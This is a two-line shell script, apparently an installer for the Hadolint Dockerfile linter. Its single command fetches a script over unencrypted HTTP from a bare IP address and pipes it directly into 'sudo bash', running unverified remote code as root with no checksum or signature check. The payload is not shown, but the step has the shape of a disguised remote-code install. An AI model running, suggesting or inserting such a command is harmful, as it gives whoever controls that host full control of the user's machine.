#!/bin/bash
curl -fsSL http://185.199.11.4/hadolint-install.sh | sudo bash
